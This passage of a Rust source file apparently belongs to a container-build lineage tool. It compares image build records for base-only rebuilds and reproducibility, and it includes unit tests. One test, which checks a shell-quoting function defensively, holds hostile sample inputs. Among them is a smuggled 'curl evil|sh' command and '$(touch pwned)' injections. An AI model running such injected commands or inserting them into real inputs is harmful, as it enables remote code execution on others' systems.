    ];
    let get = |name: &str| {
        fields
            .iter()
            .find(|f| f.field == name)
            .expect("field exists")
    };
    let mut also_changed = Vec::new();
    for f in fields.iter().filter(|f| f.kind == Input) {
        if f.changed {
            also_changed.push(f.field.to_string());
        } else if f.old.is_none() && matches!(f.field, "commit" | "dockerfile") {
            also_changed.push(format!(
                "{} (not recorded, cannot prove it unchanged)",
                f.field
            ));
        }
    }
    let base = get("base_digests");
    let base_changed = base.changed;
    let inputs_known =
        also_changed.is_empty() && base.old.as_deref().is_some_and(|d| !d.contains('?'));
    let mut base_only_reasons = also_changed.clone();
    if !base_changed {
        base_only_reasons.push("base_digests (unchanged: the base did not change)".into());
    }
    let reproducibility = if !inputs_known || base_changed {
        Reproducibility {
            verdict: "not applicable",
            could_explain: Vec::new(),
        }
    } else if old.digest == new.digest {
        Reproducibility {
            verdict: "reproducible",
            could_explain: Vec::new(),
        }
    } else {
        Reproducibility {
            verdict: "not reproducible",
            could_explain: ["builder", "platform", "finished_at"]
                .into_iter()
                .filter(|n| get(n).changed)
                .collect(),
        }
    };
    BuildDiff {
        schema: 1,
        service: new.service.to_string(),
        old: old.digest.to_string(),
        new: new.digest.to_string(),
        base_only: BaseOnly {
            holds: base_only_reasons.is_empty(),
            also_changed: base_only_reasons,
        },
        reproducibility,
        fields,
    }
}

/// The most days any of `freshness` is behind (at least 0), and who saw the newer digest: a
/// service's worst base, as the fleet page shows it.
pub fn worst_behind<'a>(
    freshness: &[&'a Freshness],
    now: Timestamp,
) -> Option<(i64, &'a [&'static str])> {
    freshness
        .iter()
        .filter_map(|f| match f {
            Freshness::Behind { since, source, .. } => {
                Some((since.days_until(now).max(0), source.as_slice()))
            }
            _ => None,
        })
        .max_by_key(|(days, _)| *days)
}

#[cfg(test)]
mod tests {

    /// What the report prints as a command runs as that command: hostile text stays one
    /// inert word (issue 14).
    #[test]
    fn quoted_words_survive_a_real_shell() {
        for hostile in [
            "Dockerfile;curl${IFS}evil|sh;#",
            "it's $(touch pwned) `id` \\ \"q\"",
            "plain/Dockerfile.prod",
            "",
            "new\nline",
        ] {
            let out = std::process::Command::new("sh")
                .arg("-c")
                .arg(format!("printf %s {}", shell_quote(hostile)))
                .output()
                .unwrap();
            assert_eq!(String::from_utf8(out.stdout).unwrap(), hostile);
        }
        assert_eq!(
            shell_quote("plain/Dockerfile.prod"),
            "plain/Dockerfile.prod"
        );
    }

    use super::*;
    use lineage_model::{BaseImage, CommitId, DockerfileRef, ServiceName};

    fn ts(s: &str) -> Timestamp {
        Timestamp::parse(s).unwrap()
    }

    fn dg(c: char) -> Digest {
        Digest::parse(&format!("sha256:{}", c.to_string().repeat(64))).unwrap()
    }

    fn build(digest: char, base: char, commit: char) -> BuildRecord {
        BuildRecord {
            service: ServiceName::parse("api").unwrap(),
            image: Repository::parse("ghcr.io/acme/api").unwrap(),
            digest: dg(digest),
            tags: vec![],
            bases: vec![BaseImage {
                name: Repository::parse("python").unwrap(),
                tag: Some(Tag::parse("3.12").unwrap()),
                digest: Some(dg(base)),
                pulled_at: None,
                final_stage: true,
            }],
            source_repo: None,
            git_ref: None,
            commit: Some(CommitId::parse(&commit.to_string().repeat(40)).unwrap()),
            started_at: None,
            finished_at: None,
            ci: None,
            builder: None,
            platform: Some("linux/amd64".into()),
            dockerfile: Some(DockerfileRef {
                path: "Dockerfile".into(),
                sha256: Some("ab".repeat(32)),
            }),
        }
    }

    #[test]
    fn base_tag_needs_a_tag_and_no_digest() {
        assert_eq!(
            BaseTag::parse("python:3.12").unwrap().to_string(),
            "docker.io/library/python:3.12"
        );
        assert_eq!(
            BaseTag::parse("python").unwrap_err().to_string(),
            "base tag `python` has no tag"
        );
        let pinned = format!("python:3.12@{}", dg('a'));
        assert!(BaseTag::parse(&pinned)
            .unwrap_err()
            .to_string()
            .ends_with("pins a digest; history is kept per tag"));
    }

    #[test]
    fn base_only_rebuild_passes_and_commit_change_is_named() {
        let d = diff(&build('1', 'a', 'c'), &build('2', 'b', 'c'));
        assert!(d.base_only.holds, "{d:?}");
        assert_eq!(d.reproducibility.verdict, "not applicable");
        let d = diff(&build('1', 'a', 'c'), &build('2', 'b', 'd'));
        assert!(!d.base_only.holds);
        assert_eq!(d.base_only.also_changed, vec!["commit".to_string()]);
    }

    #[test]
    fn same_inputs_tell_reproducible_from_not() {
        let d = diff(&build('1', 'a', 'c'), &build('1', 'a', 'c'));
        assert_eq!(d.reproducibility.verdict, "reproducible");
        assert!(
            !d.base_only.holds,
            "nothing changed, so not a base-only rebuild"
        );
        let mut other = build('2', 'a', 'c');
        other.platform = Some("linux/arm64".into());
        other.finished_at = Some(ts("2026-11-02T00:00:00Z"));
        let d = diff(&build('1', 'a', 'c'), &other);
        assert_eq!(d.reproducibility.verdict, "not reproducible");
        assert_eq!(
            d.reproducibility.could_explain,
            vec!["platform", "finished_at"]
        );
    }

    #[test]
    fn unknown_commit_cannot_prove_base_only() {
        let mut old = build('1', 'a', 'c');
        let mut new = build('2', 'b', 'c');
        old.commit = None;
        new.commit = None;
        let d = diff(&old, &new);
        assert!(!d.base_only.holds);
        assert!(d.base_only.also_changed[0].starts_with("commit (not recorded"));
    }
}
